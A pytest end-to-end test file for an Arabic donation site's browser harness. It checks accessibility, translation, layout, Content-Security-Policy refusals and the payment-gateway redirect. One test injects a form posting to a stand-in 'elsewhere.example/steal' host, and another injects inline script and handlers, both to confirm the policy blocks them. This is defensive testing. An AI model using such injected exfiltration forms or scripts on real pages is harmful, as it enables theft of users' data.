"""The checks every journey relies on catch what they claim to: an external request, an axe
violation, English left on an Arabic page, a page wider than the phone, a failing step's note."""

from __future__ import annotations

import pytest

from tests.e2e.harness import PHONE_AR, Journey

pytestmark = pytest.mark.e2e

ARABIC_PAGE = """<!doctype html><html lang="ar" dir="rtl"><head><title>جود</title>
<meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body><main><h1>صفحة</h1>{body}</main></body></html>"""


@pytest.fixture
def bare(browser, joud_server, tmp_path):
    journey = Journey(
        name="harness",
        browser=browser,
        base_url=joud_server.url,
        out_dir=tmp_path,
        variant=PHONE_AR,
    )
    yield journey
    journey.close()


def show(journey, body: str) -> None:
    """``body`` in an Arabic page at an address of the server under test, served without the
    server's Content-Security-Policy (which would refuse these examples before the checks do)."""
    url = journey.url("/harness-page/")
    html = ARABIC_PAGE.format(body=body)
    journey.page.route(
        url, lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8")
    )
    journey.page.goto(url, wait_until="load")


def test_a_request_outside_the_platform_is_blocked_and_reported(bare):
    show(bare, '<img alt="شعار" src="https://cdn.example.com/logo.png">')
    bare.page.wait_for_timeout(200)
    assert any("cdn.example.com" in r for r in bare.external_requests)
    assert any("outside the platform" in p for p in bare.problems())


def test_serious_axe_violations_are_reported_readably(bare):
    show(bare, '<input name="amount"><a href="/x"></a>')
    bare.check_page("broken form")
    report = "\n".join(bare.a11y_reports)
    assert "[critical] label" in report and "link-name" in report
    assert 'name="amount"' in report  # the offending element is quoted


def test_english_on_an_arabic_page_is_found_but_isolated_latin_is_not(bare):
    show(
        bare,
        "<p>Give now</p><p>رمز QR</p><p>تصدير <bdi>Excel</bdi></p><input placeholder='Search'>",
    )
    bare.check_page("mixed")
    found = "\n".join(bare.untranslated)
    assert "Give now" in found and "Search" in found
    assert "QR" not in found and "Excel" not in found


def test_a_page_wider_than_the_phone_is_found(bare):
    show(bare, '<label>الولاية <select style="width:600px"><option>مسقط</option></select></label>')
    bare.check_page("too wide")
    assert any("<select" in o and "600px" in o for o in bare.overflows)


def test_a_failing_step_names_itself_and_its_screenshot(bare):
    show(bare, "<p>مرحبا</p>")
    with pytest.raises(AssertionError) as failure, bare.step("look for the give button"):
        raise AssertionError("no give button")
    note = "\n".join(failure.value.__notes__)
    assert "'look for the give button'" in note
    assert bare.failed_step[1].exists() and str(bare.failed_step[1]) in note


def test_inline_code_refused_by_the_sites_policy_is_reported(bare):
    """On a real page of the server (its real policy): an inline handler, style attribute and
    script added to the page are refused by the browser, and the harness reports each."""
    bare.goto("/initiatives/")
    assert "script-src 'self'" in bare.page.evaluate(
        "fetch(location.href).then((r) => r.headers.get('content-security-policy'))"
    )
    assert bare.csp_violations == []  # the page itself is clean
    bare.page.evaluate(
        """() => {
        document.body.insertAdjacentHTML('beforeend',
          '<p style="color: red">x</p><img alt="" src="/static/none.png" onerror="window.x = 1">');
        const s = document.createElement('script');
        s.textContent = 'window.y = 1';
        document.body.appendChild(s);
    }"""
    )
    bare.page.wait_for_timeout(300)
    found = "\n".join(bare.csp_violations)
    assert "style-src-attr" in found, found
    assert "script-src-elem" in found, found
    assert "script-src-attr" in found, found
    assert any("Content-Security-Policy" in p for p in bare.problems())


def test_a_form_sent_to_another_site_is_refused_and_reported(bare):
    bare.goto("/initiatives/")
    bare.page.evaluate(
        """() => {
        document.body.insertAdjacentHTML('beforeend',
          '<form id="away" method="post" action="https://elsewhere.example/steal"></form>');
        document.getElementById('away').submit();
    }"""
    )
    bare.page.wait_for_timeout(500)
    found = "\n".join(bare.csp_violations)
    assert "form-action" in found, found
    assert not any("elsewhere.example" in r for r in bare.external_requests)


GIVE_FORM = """<!doctype html><html lang="ar" dir="rtl"><head><title>جود</title></head>
<body><main><form method="post" action="start/"><button>تبرع</button></form></main></body></html>"""


@pytest.mark.parametrize(
    ("providers", "reaches_gateway"), [(["thawani"], True), (["sandbox"], False)]
)
def test_the_donation_forms_redirect_to_the_gateway_passes_only_when_it_is_enabled(
    bare, providers, reaches_gateway
):
    """Chromium holds the redirect that answers a form post to ``form-action`` too: the policy
    built for an enabled gateway lets the donor reach its hosted page, any other refuses."""
    from django.utils.csp import build_policy

    from joud.settings.csp import csp_policy

    policy = build_policy(csp_policy(providers, "https://checkout.thawani.om"))
    page = bare.page
    page.route(
        bare.url("/harness-give/"),
        lambda route: route.fulfill(
            body=GIVE_FORM,
            content_type="text/html; charset=utf-8",
            headers={"Content-Security-Policy": policy},
        ),
    )
    page.route(
        bare.url("/harness-give/start/"),
        lambda route: route.fulfill(
            status=302, headers={"Location": "https://checkout.thawani.om/pay/session-1"}
        ),
    )
    page.goto(bare.url("/harness-give/"))
    page.locator("button").click()
    for _ in range(50):  # whichever comes first: the gateway's page asked for, or the refusal
        reached = any("checkout.thawani.om" in r for r in bare.external_requests)
        refused = any("form-action" in v for v in bare.csp_violations)
        if reached or refused:
            break
        page.wait_for_timeout(100)
    page.wait_for_timeout(300)  # and nothing else after it
    reached = any("checkout.thawani.om" in r for r in bare.external_requests)
    refused = any("form-action" in v for v in bare.csp_violations)
    assert (reached, refused) == (reaches_gateway, not reaches_gateway), (
        bare.external_requests,
        bare.csp_violations,
    )
